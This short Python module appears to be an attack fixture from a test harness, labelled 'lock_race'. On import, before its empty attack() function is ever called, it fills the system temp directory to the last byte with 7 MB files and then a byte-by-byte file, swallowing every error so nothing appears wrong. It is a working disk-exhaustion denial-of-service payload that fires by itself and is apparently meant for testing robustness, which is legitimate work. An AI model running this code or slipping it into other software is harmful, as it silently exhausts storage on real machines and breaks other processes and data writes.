"""Fills `/tmp` to the last byte, and goes on as if nothing had happened."""

# attacks: lock_race

import contextlib
import itertools
import tempfile

place = tempfile.gettempdir()
with contextlib.suppress(OSError):
    for number in itertools.count():
        with open(f"{place}/{number}", "wb") as file:
            while file.tell() < 7 << 20:
                file.write(bytes(1 << 16))
with contextlib.suppress(OSError), open(f"{place}/last", "wb", buffering=0) as file:
    while True:
        file.write(b"x")


def attack():
    return None
